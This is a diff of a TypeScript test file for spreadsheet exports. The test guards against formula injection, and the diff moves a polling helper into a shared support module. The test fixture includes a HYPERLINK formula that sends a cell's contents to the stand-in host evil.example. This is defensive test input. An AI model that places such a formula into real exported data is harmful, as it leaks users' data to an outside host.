@@ -1,5 +1,5 @@
 import ExcelJS from 'exceljs';
-import { Api, application, contribution, disbursement, guarantee, startApi } from './support/api';
+import { Api, application, contribution, disbursement, guarantee, startApi, until } from './support/api';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
 
@@ -35,11 +35,3 @@ describe('exports of text that looks like a formula, over HTTP', () => {
     expect(cells).toContain(50_000);
   });
 });
-
-async function until(check: () => Promise<boolean>, ms = 10_000) {
-  const end = Date.now() + ms;
-  while (!(await check().catch(() => false))) {
-    if (Date.now() > end) throw new Error('timed out');
-    await new Promise((r) => setTimeout(r, 25));
-  }
-}
